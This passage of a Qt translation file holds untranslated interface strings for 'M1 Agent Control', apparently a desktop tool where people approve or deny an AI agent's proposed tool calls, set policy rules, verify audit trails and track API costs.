        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>A&amp;rguments</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;Feedback for the model:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Optional: why not, or what to do instead (sent with a denial)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;Approve once</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Approve for this &amp;run</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Also approve later proposals of this run with the same tool and the same %1.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>command line and working folder</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>path</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>arguments</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>A&amp;lways allow…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Add an allow rule to your policy file (shown first).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Deny &amp;with feedback</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;Deny</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>no time limit</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 (expires in %2:%3)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 → cannot be resolved: %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 → %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The current file is larger than %1 MB: the diff compares with an empty file.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The file does not exist yet: it will be created.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>old_string does not occur in the current file: the edit will fail. The diff shows old_string against new_string.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>old_string occurs more than once: the edit will fail.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>(no change)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Unified diff of the change</source>
        <translation type="unfinished"></translation>
    </message>
    <message numerus="yes">
        <source>%n argument(s), one per row, run directly (no shell); the longest has %1 characters. Scroll to see every one whole.</source>
        <translation type="unfinished">
            <numerusform></numerusform>
            <numerusform></numerusform>
        </translation>
    </message>
    <message>
        <source>Command arguments, one per row</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 (edited)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 of %2 waiting</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Not valid JSON at character %1: %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The arguments must be one JSON object.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Unchanged.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Refused by the tool&apos;s schema: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Valid. </source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The policy denies the edited call: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The policy would allow it.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The policy asks: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>decided in the GUI after %1 s</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>; every argument was scrolled into view</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>; not every argument was scrolled into view</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>approved for this run; %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>always allowed (rule %1); %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>approved once; %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>denied; %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Cannot add a rule</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No rule can express this call: %1
Approve it once instead.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Always allow?</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>This adds the rule

    allow: %1

to %2. Later runs will run matching calls without asking (deny rules still win). Runs already going keep their rules.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Policy file not changed</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1
Fix the file (or remove it), then try again.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Could not write %1: %2</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>m1::AuditWriter</name>
    <message>
        <source>The audit writer did not confirm the event within %1 ms; treat it as not written.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>m1::AuditWriterWorker</name>
    <message>
        <source>%1 was refused: %2 &quot;%3&quot; of run &quot;%4&quot; is unknown or not in a state that allows it.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>alert</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the tool call</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Starting an audit write</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Committing an audit write</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Counting a tool call</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Recording the start of run &quot;%1&quot;</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Updating the plan</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Recording the end of run &quot;%1&quot;</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Run &quot;%1&quot; is unknown or already finished.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Recording the proposal &quot;%1&quot;</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Recording the policy decision</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Approval</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Denial</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Recording the execution</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Recording the failure</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Recording an API call</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Adding the API call to its run</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Recording an alert</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Resolving the alert</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Unknown audit event kind.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>A page limit exists only for SQLite audit databases.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The audit writer has no connection.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Setting the page limit</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>m1::AutoApprovalGate</name>
    <message>
        <source>pre-authorised token %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>auto-approved up to scope %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 needs a person&apos;s approval (%2), but there is no terminal to ask and no --token or --auto-approve covers it</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>m1::ChartsView</name>
    <message>
        <source>First day of the charts</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Last day of the charts</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;From</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;to</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Export cost report (&amp;CSV)…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Cost per day by model</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Tokens per day by kind</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Tool calls by tool</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Approval outcomes</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Error rate over time</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Latency percentiles</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Export cost report</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>CSV (*.csv)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Export failed</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1
Choose another file or folder and try again.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Loading…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The charts could not be read: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Cost per day by model (USD)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>average day (projection)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>daily budget</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>monthly budget per day</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>day of month (UTC), %1 to %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Cost in range: $%1 · month to date $%2 · projected month $%3</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Tokens per day</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>input</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>output</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>cache write</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>cache read</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>executed</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>failed</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>denied</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>approved</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Error rate per day (%)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>tool runs</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>API calls</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Tool run time percentiles (ms)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Could not open %1: %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Could not write %1: %2</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>m1::ClaudeProvider</name>
    <message>
        <source>The API endpoint answered with a redirect (HTTP %1); it is not followed so the API key is never sent elsewhere. Check the API address.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The API did not answer within %1 s.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Could not reach the API (%1): %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The response stream stalled for %1 s and was abandoned; nothing from it was used.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The response stream ended before the message was complete; nothing from it was used.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Claude is rate limited and asks for a wait of %1 s; try again at %2.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>[request-id: %1]</source>
        <translation type="unfinished"></translation>
    </message>
    <message numerus="yes">
        <source>(gave up after %n attempt(s))</source>
        <translation type="unfinished">
            <numerusform></numerusform>
            <numerusform></numerusform>
        </translation>
    </message>
    <message>
        <source>The model turn was cancelled.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No complete answer from the API within %1 s; the turn was abandoned.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>m1::GoalEditor</name>
    <message>
        <source>&amp;Goal:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Goal</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>What should the agent do? For example: fix the failing test in calc.py</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Recent</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Recent goals</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Agent profile</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Model</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Default of the profile</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Workspace folder</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Demo workspace (offline replay only)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;Browse…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Choose the workspace folder</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Workspace folder: the agent&apos;s tools cannot reach outside it</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;Agent:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;Model:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;Workspace:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Maximum model turns</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Maximum tool calls</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source> s</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Maximum runtime in seconds</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>no budget</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Budget for this run in US dollars</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>D&amp;ry run</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Policy, approvals, tokens and audit as usual, but no tool runs.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>S&amp;teps:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Tool &amp;calls:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>R&amp;untime:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Bu&amp;dget:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;Start</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Start the run (Ctrl+Return)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>St&amp;op</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Stop the run: no tool runs after this (Ctrl+.)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Looking up the keychain…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Runs on Claude (API key found).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Runs on the offline replay: no API key, so a recorded demo transcript plays. Add a key in Settings to use Claude.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>m1::GuiApprovalGate</name>
    <message>
        <source>covered by &quot;approve for this run&quot; given earlier</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>m1::HistoryModel</name>
    <message>
        <source>Started</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Goal</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Agent</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Model</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Stop reason</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Steps</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Calls (ok / denied)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Tokens</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Cost</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Duration</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>running</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>unknown</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>m1::HistoryView</name>
    <message>
        <source>Filter by agent</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>All agents</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Filter by stop reason</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Any end</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Filter by model</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>All models</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>From</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>First day</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>to</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Last day</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Text in the goal…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Search the goals</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Past runs</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Sorting orders the runs loaded so far; scroll down to load more.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Open a run (double-click or Enter) to see its timeline.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>E&amp;xport run as JSON…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;Verify audit trail</source>
        <translation type="unfinished"></translation>
    </message>
    <message numerus="yes">
        <source>%n run(s) loaded</source>
        <translation type="unfinished">
            <numerusform></numerusform>
            <numerusform></numerusform>
        </translation>
    </message>
    <message>
        <source>; scroll for more</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The history could not be read: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Export run</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>JSON (*.json)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Export failed</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Could not write %1. Choose another folder.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Could not open the run: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Run %1 — %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Verifying…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Audit check failed: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message numerus="yes">
        <source>Audit trail intact (%n event(s) checked)</source>
        <translation type="unfinished">
            <numerusform></numerusform>
            <numerusform></numerusform>
        </translation>
    </message>
    <message>
        <source>AUDIT TRAIL BROKEN at event %1: %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Run %1: agent %2, model %3 (%4)%5
Goal: %6</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>, dry run</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>API call %1 (attempt %2): %3 in, %4 out, %5, %6 ms%7</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>(no request id)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>cost unknown</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>, error %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Still running (or ended without a record).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Ended: %1</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>m1::MainWindow</name>
    <message>
        <source>M1 Agent Control</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>New run (Ctrl+N)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>New run</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;Runs</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;History</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;Charts</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>A&amp;lerts</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Pending approvals</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;Show</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Deny selected</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Deny all</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>denied from the queue list</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Deny all?</source>
        <translation type="unfinished"></translation>
    </message>
    <message numerus="yes">
        <source>Deny all %n pending proposal(s)?</source>
        <translation type="unfinished">
            <numerusform></numerusform>
            <numerusform></numerusform>
        </translation>
    </message>
    <message>
        <source>denied with all pending proposals</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Show the queue of pending approvals (F9)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No token secret: runs cannot start</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Approval tokens unavailable</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The secret that signs approval tokens could not be read: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Unlock the keychain and press Retry, or set M1_JWT_SECRET (32 bytes or more) in the environment and restart.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Claude</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Offline replay</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Critical alert</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Warning</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>A&amp;lerts (%1)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;File</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;New run</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;Export cost report…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;Settings…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;Quit</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;View</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;Help</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;About</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>About M1 Agent Control</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>M1 Agent Control %1
The agent only proposes tool calls. A call runs only when the policy allows it or you approve it, and only with a single-use approval token bound to that exact call.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Stop the run?</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>This run is still going. Stop it and close the tab?</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>1 pending</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 pending</source>
        <translation type="unfinished"></translation>
    </message>
    <message numerus="yes">
        <source>%n approval(s) pending</source>
        <translation type="unfinished">
            <numerusform></numerusform>
            <numerusform></numerusform>
        </translation>
    </message>
    <message>
        <source>%1 (%2) — run %3, step %4</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Export cost report</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>CSV (*.csv)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Export failed</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Quit?</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Runs are still going. Quit anyway? They stop as cancelled.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>m1::MetricsEndpoint</name>
    <message>
        <source>Cannot serve metrics on 127.0.0.1:%1 (is the port in use?)</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>m1::RunController</name>
    <message>
        <source>The run stopped (%1) before this call ran.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>[older tool output removed to keep the conversation within the context window]</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The model stopped for tool use but proposed no tool call.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The model paused its turn more than %1 times.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The model&apos;s answer was cut at max_tokens (%1); a truncated tool call is never run. Retry with a larger max_tokens.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The model declined to continue: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>no explanation given</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The conversation no longer fits the model&apos;s context window.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The model stopped for a reason this version does not know: &quot;%1&quot;. Nothing was proposed.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The run reached its limit of %1 tool calls.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The agent &quot;%1&quot; may not use %2.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Denied by policy (%1): %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>A person&apos;s approval is needed (%1), but no one can approve in this session.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Denied: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Denied by the person reviewing this call.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Feedback from the reviewer: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The edited arguments were refused: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Denied by policy (%1) after the reviewer edited the arguments: %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No decision within %1 s.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Not run: no approval token could be issued (%1).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>[dry run] %1 was approved but not executed: this run is a dry run, so no tool runs. Nothing changed.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>dry run: approved, not executed</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Not run: the approval request expired (%1).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 failed (%2): %3</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Not run (%1): %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the tool reported failure</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>
[output cut: showing the first %1 of %2 characters]</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The reviewer changed the arguments before approving; this ran with: %1
%2</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>m1::RunTab</name>
    <message>
        <source>New run</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The run cannot start</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Error code: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Run %1 on %2 (%3), workspace %4%5</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>; dry run: no tool will run</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Plan:
%1</source>
        <translation type="unfinished"></translation>
    </message>
    <message numerus="yes">
        <source>The conversation was trimmed to fit the context window (%n old result(s) replaced).</source>
        <translation type="unfinished">
            <numerusform></numerusform>
            <numerusform></numerusform>
        </translation>
    </message>
    <message>
        <source>API attempt %1 failed: %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Run ended: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 proposed, %2 approved, %3 denied, %4 executed.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Tokens: %1 in · %2 out</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source> + unknown</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Cost: %1 of %2 budget (%3%)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Cost: %1 (no budget)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Elapsed: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Stopped: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Running</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Not started</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>m1::ScopeStyle</name>
    <message>
        <source>READ</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>WRITE</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>EXECUTE</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>UNKNOWN</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>m1::SettingsDialog</name>
    <message>
        <source>Opens the folder; the file uses the format in docs/configuration.md.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Settings</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;Claude</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;Approvals and limits</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;Rules</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;Database</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;Monitoring</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Settings not saved</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>New Anthropic API key</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Paste a new key to replace the stored one</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>A key is stored (it is never shown again).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No key stored: runs use the offline replay.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Store in the &amp;keychain</source>
